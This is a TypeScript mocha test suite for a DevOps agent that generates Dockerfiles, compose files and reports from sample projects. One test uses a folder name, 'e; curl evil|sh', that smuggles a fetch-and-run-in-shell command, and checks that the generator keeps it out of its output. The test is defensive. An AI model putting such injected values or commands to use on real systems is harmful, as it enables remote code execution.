import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'mocha';
import { parse } from 'yaml';
import { devopsTargets } from '../../../../contract/work/devops-agent.ts';
import { createOutlineReader, type OutlineReader } from '../../../../scanner/outline/index.ts';
import { loadGrammars } from '../../../../workspace/grammars.ts';
import { createWorkspaceScan, type WorkspaceScan } from '../../../../workspace/workspace-scan.ts';
import { findFaults } from '../../../testing/devops/check-written.ts';
import { sampleServices } from '../../../testing/devops/random-services.ts';
import { learnServices } from './facts/learn-services.ts';
import { sampleProjects } from './facts/sample-projects.test.ts';
import { makeDevops } from './make-devops.ts';

const everything = { targets: [...devopsTargets], services: [] };

describe('the files of the DevOps agent', function () {
  this.timeout(300_000);
  let outline: OutlineReader;
  let scanner: WorkspaceScan;
  let folder: string;
  before(async () => {
    outline = await createOutlineReader(await loadGrammars());
    scanner = createWorkspaceScan({});
    folder = await mkdtemp(path.join(tmpdir(), 'vireo-devops-'));
  });
  after(async () => {
    await scanner.dispose();
    await rm(folder, { recursive: true, force: true });
  });

  async function learn(files: Readonly<Record<string, string>>) {
    const place = { list: async () => Object.keys(files), read: async (file: string) => files[file] };
    return await learnServices(place, { outline, name: 'Sample' });
  }

  async function assertSound(files: ReadonlyMap<string, string | undefined>, name: string): Promise<void> {
    const own = path.join(folder, name.replaceAll(/\W+/g, '-'));
    assert.deepEqual(await findFaults(files, { scanner, folder: own }), [], name);
  }

  for (const { name, files, services } of sampleProjects) {
    it(`are sound: ${name}`, async () => {
      const made = makeDevops(await learn(files), everything);

      await assertSound(made.files, name);
      const images = [...made.files.keys()].filter((file) => file.endsWith('Dockerfile'));
      assert.equal(images.length, services.length);
    });
  }

  it('say the port, the health and the start that the code has', async () => {
    const [first] = sampleProjects;
    const { files, report } = makeDevops(await learn(first?.files ?? {}), everything);

    const image = files.get('Dockerfile') ?? '';
    assert.match(image, /^FROM node:22-slim AS build$/m);
    assert.match(image, /^RUN --mount=type=cache,target=\/root\/\.npm npm ci$/m);
    assert.match(image, /^EXPOSE 8080$/m);
    assert.match(image, /127\.0\.0\.1:8080\/internal\/healthz/);
    assert.match(image, /^CMD \["node", "src\/server\.js"\]$/m);
    const compose = parse(files.get('compose.yaml') ?? '');
    assert.equal(compose.services.postgres.image, 'postgres:16.4');
    assert.match(compose.services['orders-api'].environment.DATABASE_URL, /@postgres:5432\/postgres/);
    assert.deepEqual(compose.services['orders-api'].ports, ['127.0.0.1:8080:8080']);
    assert.match(report, /\| Health \| `\/internal\/healthz` \| `src\/health\.js:3` \|/);
  });

  it('have an image for each of two services in one folder', async () => {
    const django = sampleProjects.find(({ name }) => name === 'django with celery');
    const { files } = makeDevops(await learn(django?.files ?? {}), everything);

    const { services } = parse(files.get('compose.yaml') ?? '');
    assert.deepEqual(services['sample'].build, { context: '.' });
    assert.deepEqual(services['sample-worker'].build, {
      context: '.',
      dockerfile: 'sample-worker.Dockerfile',
    });
    assert.ok(files.has('sample-worker.Dockerfile'));
  });

  it('have names, ports and folders that nothing else takes', async () => {
    const server = (name: string) => ({
      'package.json': JSON.stringify({
        name,
        scripts: { start: 'node server.js' },
        dependencies: { express: '4' },
      }),
      'server.js': "import express from 'express';\nconst app = express();\napp.listen(3000);\n",
    });
    const inside = (folder: string, files: Record<string, string>) =>
      Object.fromEntries(Object.entries(files).map(([file, text]) => [`${folder}/${file}`, text]));
    const facts = await learn({
      ...inside('a', server('web')),
      ...inside('b', server('web')),
      ...inside('c', server('web-2')),
      ...inside('d', server('redis')),
      ...inside('e; curl evil|sh', server('evil')),
    });
    const { files } = makeDevops(facts, everything);

    const names = facts.services.map(({ name }) => name);
    assert.deepEqual(names, ['web', 'web-2', 'web-2-2', 'redis-app']);
    const { services } = parse(files.get('compose.yaml') ?? '');
    assert.deepEqual(
      Object.values<{ ports: string[] }>(services).flatMap(({ ports = [] }) => ports),
      [3000, 3001, 3002, 3003].map((port) => `127.0.0.1:${port}:3000`),
    );
    assert.ok(facts.unknown.some((sentence) => sentence.includes('curl evil')));
    for (const [file, text = ''] of files) assert.ok(!text.includes('curl evil'), file);
  });

  it('are none for what is not run, and say so', async () => {
    const library = sampleProjects.find(({ name }) => name === 'a library');
    const { files, notes } = makeDevops(await learn(library?.files ?? {}), { targets: [], services: [] });

    assert.equal(files.size, 0);
    assert.match(notes.join(' '), /Nothing here is a program that is run/);
  });

  it('change what is there, and name services that are not', async () => {
    const [first] = sampleProjects;
    const there = { ...first?.files, Dockerfile: 'FROM node:18\n', '.github/workflows/x.yml': 'on: push\n' };
    const made = makeDevops(await learn(there), { targets: [], services: ['orders-api', 'none'] });

    assert.deepEqual([...made.files.keys()].toSorted(), ['.dockerignore', 'Dockerfile', 'compose.yaml']);
    assert.ok(made.notes.includes('There is no service none. There are: orders-api.'));
    assert.ok(made.notes.includes('Dockerfile is there already: what differs is offered as changes of it.'));
  });

  it('are sound for services of any kind', async () => {
    const samples = sampleServices(19, 5);
    for (const [index, services] of samples.entries()) {
      const made = makeDevops({ name: 'random', services, files: new Set(), unknown: [] }, everything);
      await assertSound(made.files, `random-${index}`);
    }
  });
});
